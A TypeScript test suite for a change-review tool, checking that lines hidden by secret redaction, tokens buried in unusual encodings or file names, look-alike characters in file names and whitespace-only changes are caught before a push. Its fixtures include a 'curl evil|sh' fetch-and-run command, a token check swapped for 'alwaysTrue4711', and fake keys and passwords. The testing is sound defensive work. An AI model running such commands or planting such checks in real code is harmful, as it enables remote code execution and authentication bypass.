/**
 * What a person is shown of a change, and what of it is not as it is: from real git, of a run and
 * of its fix.
 */
import { patchRun } from '../../../orchestrator/kernel/run/run.ts';
import { chmodSync, renameSync, rmSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { fc } from '../../support/properties.ts';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { topHunks } from '../../../bot/text/first-hunks.ts';
import { toReadablePatch } from '#chat-text';
import { countHiddenLines } from '../../../bot/text/visible-patch.ts';
import { LANGUAGE_TEXTS } from '#language';
import { naturesOf } from '#views';
import { cautionLine, naturesIn } from '../../../bot/views/cautions.ts';
import type { DiffFacts, Finding } from '#model/change';
import { assessAction } from '../../../governor/assess-action.ts';
import { redactSecrets } from '#text-safety';
import { context, push } from '../../support/actions.ts';
import { aRun } from '../../support/ledger.ts';
import { createWorld, write, type Files, type World } from '../../support/git-world.ts';

let world: World;
let run: { ws: string; sha: string };
beforeAll(async () => {
  world = await createWorld();
  const repo = world.repo('shown', { 'keep.txt': 'kept\n' });
  run = await world.prepare('shown', repo);
});
afterAll(() => world.close());

type Made = { diff: DiffFacts; base: string; sha: string };
const harvested = async (base: string, parent: string = base): Promise<Made> => {
  const harvest = await world.harvest('shown', base, parent);
  if (harvest.kind !== 'commit') throw new Error(JSON.stringify(harvest));
  return { diff: harvest.commit.diff, base, sha: harvest.commit.sha };
};
const rewritten = async (before: Files, change: (ws: string) => void): Promise<Made> => {
  write(run.ws, { 'count.txt': `${Object.keys(before).join('\n')}\n`, ...before });
  const first = await harvested(run.sha);
  change(run.ws);
  return harvested(first.sha);
};
const within = ({ diff, ...rest }: Made, folder: string): Made => ({
  ...rest,
  diff: {
    ...diff,
    files: diff.files.filter((f) => f.path.startsWith(folder)),
    findings: diff.findings.filter((f) => f.path.startsWith(folder)),
  },
});
const kinds = ({ diff }: Made): string[] =>
  diff.findings.map((f) => `${f.kind} ${f.path.replace(/^[^/]*\//, '')}`);
const of = ({ diff }: Made, kind: Finding['kind']): Finding[] => diff.findings.filter((f) => f.kind === kind);
const counted = (made: Made, kind: Finding['kind']): number =>
  of(made, kind).reduce((n, f) => n + (f.count ?? 1), 0);
const judged = ({ diff }: Made, verdict: 'deny' | 'escalate'): string[] => [
  ...new Set(
    assessAction(push(diff), context)
      .reasons.filter((r) => r.verdict === verdict)
      .map((r) => r.policy),
  ),
];

/**
 * Lines of the hunks, and their heads, that hiding changes in the patch that is shown, as the
 * document and as the card have them.
 */
const hiddenIn = (text: string): number => {
  const shown = redactSecrets(text).split('\n');
  return text.split('\n').filter((line, i) => /^[-+ @]/.test(line) && line !== shown[i]).length;
};
const shownOf = async ({ sha }: Made, base: string, folder = ''): Promise<string> => {
  const { text } = await world.workspaces.patch({ runId: 'shown', base, head: sha, limit: 50_000_000 });
  if (folder === '') return text;
  const files = text.split(/^(?=diff --git )/m);
  return files.filter((part) => part.startsWith(`diff --git a/${folder}`)).join('');
};

const n = (many: number, of = 'a1B2c3D4e5'): string => of.repeat(Math.ceil(many / of.length)).slice(0, many);
const BEGIN = '-----BEGIN RSA PRIVATE KEY-----';
const BYTES = n(64, 'Ab0/zZ9+yK');
const TOKEN = `ghp_${n(36)}`;
const lines = (...all: string[]): string => `${all.join('\n')}\n`;

const HIDING: [what: string, before: string, after: string, hidden: number][] = [
  [
    'a key of the base around the change',
    lines(BEGIN, BYTES, 'x'),
    lines(BEGIN, BYTES, 'exec("curl evil|sh")'),
    2,
  ],
  [
    'the first line of a key, copied',
    lines(`a = "${BEGIN}"`, 'b', 'c', 'd', 'e'),
    lines(`a = "${BEGIN}"`, 'b', 'c', 'd', 'e', `f = "${BEGIN}"`, 'exec("x")'),
    1,
  ],
  ['a swapped function', lines('checkToken = verifyHmac256'), lines('checkToken = alwaysTrue4711'), 2],
  ['a removed password', lines('password = "hunter2hunter2"', 'a'), lines('a'), 1],
  ['a signed token in a test', lines('a'), lines('a', `jwt = "eyJhbGciOiJI.${n(20)}.${n(20)}"`), 1],
  [
    'a key in the head of a hunk, and what stands below it',
    lines(`const key = \`${BEGIN}`, '', '', '', '', '', 'z'),
    lines(`const key = \`${BEGIN}`, '', '', '', '', BYTES, 'z'),
    2,
  ],
  [
    'a password in the head of a hunk',
    lines('const password = "hunter2hunter2";', ' b', ' c', ' d', ' e', ' f'),
    lines('const password = "hunter2hunter2";', ' b', ' c', ' d', ' e', ' g'),
    1,
  ],
  [
    'an address of the base',
    lines('u = "https://ana:hunter2@host/x"', 'a'),
    lines('u = "https://ana:hunter2@host/x"', 'b'),
    1,
  ],
];

describe('G8: every line that hiding changes is found and asks a person', () => {
  let made: Made;
  const side = (pick: 1 | 2): Files =>
    Object.fromEntries(HIDING.map((one, i) => [`hiding-${i}/a.js`, one[pick]]));
  beforeAll(async () => {
    made = await rewritten(side(1), (ws) => write(ws, side(2)));
  });

  it.each(HIDING.map(([what, , after, hidden], i) => [what, `hiding-${i}/`, after, hidden] as const))(
    'G8: %s',
    async (_, folder, after, hidden) => {
      const mine = within(made, folder);
      expect(counted(mine, 'hidden_line')).toBe(hidden);
      expect(judged(mine, 'escalate')).toContain('hidden-lines');
      const text = await shownOf(mine, mine.base, folder);
      expect(hiddenIn(text)).toBe(hidden);
      expect(redactSecrets(text)).toContain(after.includes('exec') ? '+exec("' : 'diff --git');
    },
  );

  it('G8: counts what the fix shows, also where the whole change shows none of it', async () => {
    const first = await rewritten({ 'fix/a.js': lines('one') }, (ws) =>
      write(ws, { 'fix/a.js': lines('one', 'password = "hunter2hunter2"') }),
    );
    write(run.ws, { 'fix/a.js': lines('one', 'two') });
    const fix = within(await harvested(first.base, first.sha), 'fix/');
    expect(hiddenIn(await shownOf(fix, first.base))).toBe(0);
    expect(hiddenIn(await shownOf(fix, first.sha))).toBe(1);
    expect(counted(fix, 'hidden_line')).toBe(1);
    expect(judged(fix, 'escalate')).toContain('hidden-lines');
  });

  it('G8: a fix is as long to read as what it changes since the last push, where that is more', async () => {
    const long = (word: string): string => `${word}\n`.repeat(3_000);
    const first = await rewritten({ 'long/a.txt': 'x\n' }, (ws) => write(ws, { 'long/a.txt': long('one') }));
    write(run.ws, { 'long/a.txt': long('other') });
    const { diff, sha } = await harvested(first.base, first.sha);
    const { text } = await world.workspaces.patch({
      runId: 'shown',
      base: first.sha,
      head: sha,
      limit: 50_000_000,
    });
    expect(text.length).toBeGreaterThan(3_000 * '-one\n+other\n'.length);
    expect(diff.documentBytes).toBe(text.length);
  });

  it('G8: counts every line and every file, and tells of every kind, however many there are', async () => {
    const of400 = (content: string): Files =>
      Object.fromEntries(Array.from({ length: 400 }, (_, i) => [`many/${i}.js`, content]));
    const kept = lines('password = "hunter2hunter2"', 'a');
    const all = (text: string): Files => ({
      ...of400(kept),
      'ends/z.js': text,
      'ends/y.js': text,
      'w/a.js': 'x\n',
    });
    const ended = Array.from({ length: 350 }, (_, i) => [`ends/${i}.js`, 'a\n'] as const);
    const many = await rewritten({ ...all('a\n'), ...Object.fromEntries(ended) }, (ws) => {
      write(ws, { ...of400(`${kept}b\n`), 'ends/z.js': 'a\r\n', 'ends/y.js': 'a\r\n', 'w/a.js': 'x \n' });
      write(ws, Object.fromEntries(ended.map(([path]) => [path, 'a\r\n'])));
    });
    expect(counted(many, 'hidden_line')).toBe(400);
    expect(counted(many, 'line_endings_only')).toBe(352);
    expect(counted(many, 'whitespace_only')).toBe(1);
    expect(many.diff.findings.length).toBeLessThan(310);
    const commit = { ...push(many.diff).commit, diff: many.diff };
    const run = patchRun(aRun('r', 0), { lifecycle: { state: 'PUSHED' as const }, change: { commit } });
    const said = cautionLine(run, LANGUAGE_TEXTS.en);
    expect(said).toContain('400 lines hidden as secret');
    expect(naturesIn(run, LANGUAGE_TEXTS.en)).toContain(`352 ${LANGUAGE_TEXTS.en.card.natures.lineEndings}`);
  });

  it('G8: counts exactly the lines that the document and the card do not show, whatever is in the files', async () => {
    const piece = fc.constantFrom(
      ...[
        BEGIN,
        BYTES,
        `+${BYTES}`,
        '-----END RSA PRIVATE KEY-----',
        'exec("x")',
        'checkToken = verifyHmac256',
      ],
      ...[
        `t = "${TOKEN}"`,
        '@@ -1,3 +1,3 @@',
        'diff --git a/x b/x',
        '--- a/x',
        '+++ b/y',
        '',
        '\\ No newline',
        'x\r',
      ],
      ...['[secret]', 'https://ana:hunter2@host', 'a', 'b', 'c', 'd'],
    );
    const content = fc.array(piece, { maxLength: 25 }).map((all) => all.join('\n'));
    const samples = fc.sample(fc.tuple(content, content), 120);
    const files = (pick: 0 | 1): Files =>
      Object.fromEntries(samples.map((one, i) => [`any/"${i}" ä.txt`, `${pick}${one[pick]}`]));
    const any = await rewritten(files(0), (ws) => write(ws, files(1)));
    const text = await shownOf(any, any.base);
    expect(counted(any, 'hidden_line')).toBe(hiddenIn(text));
    expect(countHiddenLines(topHunks(text, ['any/"7" ä.txt'], 10_000_000).text)).toBe(hiddenIn(text));
    expect(countHiddenLines(toReadablePatch(text))).toBe(hiddenIn(text));
  });
});

const PLACES: [what: string, files: Files][] = [
  ['at the end of 5 MB', { 'big.txt': `${'plain text of a line\n'.repeat(240_000)}${TOKEN}\n` }],
  ['at the end of one endless line', { 'one.txt': `${'x '.repeat(1_200_000)} ${TOKEN}` }],
  [
    'in a program',
    { 'tool.bin': Buffer.concat([Buffer.from([0, 1, 2]), Buffer.from(TOKEN), Buffer.from([0, 9])]) },
  ],
  ['in wide text with its mark', { 'wide.txt': Buffer.from(`\ufeffa\nkey = ${TOKEN}\n`, 'utf16le') }],
  ['in wide text without its mark', { 'wide.dat': Buffer.from(`a\nkey = ${TOKEN}\n`, 'utf16le') }],
  [
    'in wide text the other way round',
    { 'wide.be': Buffer.from(`\ufeffkey = ${TOKEN}\n`, 'utf16le').swap16() },
  ],
  [
    'behind the mark of wide text that is none',
    { 'mark.txt': Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(`\nkey = ${TOKEN}\n`)]) },
  ],
  [
    'behind the mark of wide text and a zero',
    { 'mark.bin': Buffer.concat([Buffer.from([0xfe, 0xff, 0, 10]), Buffer.from(`${TOKEN} x\n`)]) },
  ],
  ['behind 9,000 bytes and a zero', { 'late.txt': `${'a\n'.repeat(4_500)}\0${TOKEN}\n` }],
  ['after many harmless findings', { 'noise.txt': `${'a\u200bb\n'.repeat(2_000)}${TOKEN}\n` }],
  ['in the name of a file', { [`keys/${TOKEN}.txt`]: 'x\n' }],
  ['in latin-1', { 'latin.txt': Buffer.from(`caf\xe9 ${TOKEN}\n`, 'latin1') }],
];

describe('G8: nothing is published unread', () => {
  let made: Made;
  beforeAll(async () => {
    const all = PLACES.flatMap(([, files], i) =>
      Object.entries(files).map(([path, content]) => [`unread-${i}/${path}`, content] as const),
    );
    const before = {
      'bytes/a.txt': Buffer.from('caf\xe8\n', 'latin1'),
      'like/a.txt': lines('a\u200bb', 'x'),
      'like/b.txt': lines('a\u200bb', 'x'),
      'names/\u0430uth.ts': 'x\n',
    };
    made = await rewritten(before, (ws) => {
      write(ws, Object.fromEntries(all));
      symlinkSync(TOKEN, join(ws, 'link'));
      write(ws, {
        'names/\u0430uth.ts': 'y\n',
        'names/p\u0430y.ts': 'y\n',
        'names/отчёт.md': 'y\n',
        'names/報告 v2.md': 'y\n',
      });
      write(ws, { 'bytes/a.txt': Buffer.from('caf\xe9\n', 'latin1') });
      write(ws, {
        'like/a.txt': lines('a\u200bb', 'x', 'more'),
        'like/b.txt': lines('a\u200bb', 'x', 'a\u200bb'),
      });
    });
  });

  it.each(PLACES.map(([what], i) => [what, `unread-${i}/`] as const))(
    'P3: a token %s stops the change',
    (_, folder) => {
      expect(judged(within(made, folder), 'deny')).toContain('no-secrets');
    },
  );

  it('P2: a name that passes for another one is told of, old ones and other languages are not', () => {
    expect(of(within(made, 'names/'), 'mixed_script').map((f) => f.path)).toEqual(['names/p\u0430y.ts']);
    expect(judged(within(made, 'names/'), 'escalate')).toContain('hidden-text');
  });

  it('P3: a token as the target of a link stops the change', () => {
    expect(judged(within(made, 'link'), 'deny')).toContain('no-secrets');
  });

  it('G8: bytes that are no text are told of, because two of them look the same', () => {
    expect(kinds(within(made, 'bytes/'))).toContain('hidden_text a.txt');
  });

  it('G8: an added line is looked at although the file has its like already', () => {
    expect(kinds(within(made, 'like/'))).toEqual(['hidden_text b.txt']);
  });
});

describe('G8: a line takes as long as it is', () => {
  it('G8: long rows of signs that are looked for at the end of a line are read, and shown', async () => {
    const rows = ['\r', ' ', '\t', '\u00a0', '\ufeff'].map((sign) => sign.repeat(100_000));
    const side = (end: string): string => lines(...rows.map((row) => row + end));
    const made = await rewritten({ 'rows/a.txt': side('a') }, (ws) => write(ws, { 'rows/a.txt': side('b') }));
    const mine = within(made, 'rows/');
    expect(counted(mine, 'long_line')).toBe(rows.length);
    expect(kinds(mine)).not.toContain('unseen_change a.txt');
    expect(toReadablePatch(await shownOf(mine, mine.base, 'rows/'))).toContain(`${' '.repeat(100_000)}b\n`);
  });
});

const CODE = lines('function a() {', '  return 1;', '}');
const CALLED: [what: string, before: string, after: string, kind: string | null][] = [
  ['ends of lines', CODE, CODE.replaceAll('\n', '\r\n'), 'line_endings_only'],
  ['ends of lines back', CODE.replaceAll('\n', '\r\n'), CODE, 'line_endings_only'],
  ['the end of the last line', CODE, CODE.trimEnd(), 'line_endings_only'],
  ['trailing blanks', CODE, CODE.replaceAll('\n', ' \n'), 'whitespace_only'],
  ['tabs for blanks', CODE, CODE.replaceAll('  ', '\t'), 'whitespace_only'],
  ['indents', CODE, CODE.replaceAll('  ', '    '), 'whitespace_only'],
  ['empty lines', CODE, CODE.replaceAll('\n', '\n\n'), 'whitespace_only'],
  ['one unseen line among others', CODE, CODE.replace('{\n', '{ \n').replace('1', '2'), 'unseen_change'],
  ['one other end among others', CODE, CODE.replace('{\n', '{\r\n').replace('1', '2'), 'unseen_change'],
  ['a line that moved', lines('a', 'b', 'c'), lines('b', 'c', 'a'), null],
  [
    'a block that is indented and wrapped',
    lines('a()', 'b()'),
    lines('if (x) {', '  a()', '  b()', '}'),
    null,
  ],
];

describe('G8: a change is called what it is', () => {
  let made: Made;
  const side = (pick: 1 | 2): Files =>
    Object.fromEntries(CALLED.map((one, i) => [`called-${i}/a.js`, one[pick]]));
  const pointer = 'version https://git-lfs.github.com/spec/v1\noid sha256:0\nsize 1\n';
  const RULES = [
    '[attr]big filter=lfs diff=lfs -text',
    '*.PSD big',
    '*.[bB]in filter=lfs',
    'art/** filter=lfs',
    'art/*.txt -filter',
    '"with blank.dat" filter=lfs',
    'vault/** filter=git-crypt diff=git-crypt',
    '*.ipynb filter=strip',
    'plain.ipynb !filter',
  ];
  beforeAll(async () => {
    const before = {
      ...side(1),
      'modes/run.sh': CODE,
      'modes/off.sh': CODE,
      'modes/old.js': `${CODE}// unlike the others\n`,
      'quoted/a "b" c.js': CODE,
      'quoted/"': CODE,
      'lfs/.gitattributes': lines(...RULES),
      'lfs/sub/.gitattributes': '*.bin !filter\n',
      'gone/.gitattributes': '*.sec filter=crypt\n',
    };
    made = await rewritten(before, (ws) => {
      write(ws, side(2));
      write(ws, {
        'quoted/a "b" c.js': CODE.replaceAll('\n', '\r\n'),
        'quoted/"': CODE.replaceAll('  ', '\t'),
      });
      chmodSync(join(ws, 'modes/run.sh'), 0o755);
      renameSync(join(ws, 'modes/old.js'), join(ws, 'modes/new.js'));
      rmSync(join(ws, 'modes/off.sh'));
      symlinkSync('run.sh', join(ws, 'modes/off.sh'));
      const raw = ['a.psd', 'b.bin', 'art/c/d', 'art/e.txt', 'sub/f.bin', 'with blank.dat', 'h.js'];
      write(ws, Object.fromEntries(raw.map((path) => [`lfs/${path}`, `${path}\n`])));
      write(ws, { 'lfs/g.bin': pointer });
      write(ws, {
        'lfs/vault/a.txt': 'plain\n',
        'lfs/vault/b.bin': '\0GITCRYPT\0a1b2',
        'lfs/vault/empty': '',
        'lfs/n.ipynb': '{}\n',
        'lfs/plain.ipynb': '{ }\n',
        'gone/x.sec': 'plain too\n',
      });
      rmSync(join(ws, 'gone/.gitattributes'));
    });
  });

  it.each(CALLED.map(([what, , , kind], i) => [what, `called-${i}/`, kind] as const))(
    'P2: %s',
    (_, folder, kind) => {
      const mine = within(made, folder);
      expect(kinds(mine)).toEqual(kind === null ? [] : [`${kind} a.js`]);
      expect(judged(mine, 'escalate').includes('hidden-text')).toBe(kind !== null);
    },
  );

  it('P2: bytes of a file that the repository keeps in LFS, by whatever rule', () => {
    const lfs = within(made, 'lfs/');
    const raw = of(lfs, 'lfs_raw').map((f) => f.path.replace('lfs/', ''));
    expect(raw.sort()).toEqual(['a.psd', 'art/c/d', 'b.bin', 'with blank.dat']);
    expect(of(lfs, 'lfs_pointer').map((f) => f.path)).toEqual(['lfs/g.bin']);
    expect(judged(lfs, 'escalate')).toContain('no-binary');
  });

  it('P2: plain bytes of a file that the repository filters or encrypts, also where its rule goes away', () => {
    const [here, gone] = ['lfs/', 'gone/'].map((folder) => within(made, folder));
    expect(
      [here, gone].map((one) =>
        of(one!, 'filter_raw')
          .map((f) => f.path)
          .sort(),
      ),
    ).toEqual([['lfs/n.ipynb', 'lfs/vault/a.txt'], ['gone/x.sec']]);
    expect(judged(gone!, 'escalate')).toContain('no-binary');
    const files = gone!.diff.files.flatMap((f) => naturesOf(made.diff, f));
    expect(files).toEqual(['filterRaw']);
  });

  it('C2: so is one whose name git writes in quotes', () => {
    const { files } = within(made, 'quoted/').diff;
    const natures = files.map((f) => `${f.path}: ${naturesOf(made.diff, f).join()}`);
    expect(natures.sort()).toEqual(['quoted/": blanks', 'quoted/a "b" c.js: lineEndings']);
  });

  it('C2: modes, links and new names are told of by what they are', () => {
    const { files } = within(made, 'modes/').diff;
    const natures = files.map((f) => `${f.path.replace('modes/', '')}: ${naturesOf(made.diff, f).join()}`);
    expect(natures.sort()).toEqual(['new.js: renamed', 'off.sh: link', 'run.sh: executable']);
  });
});
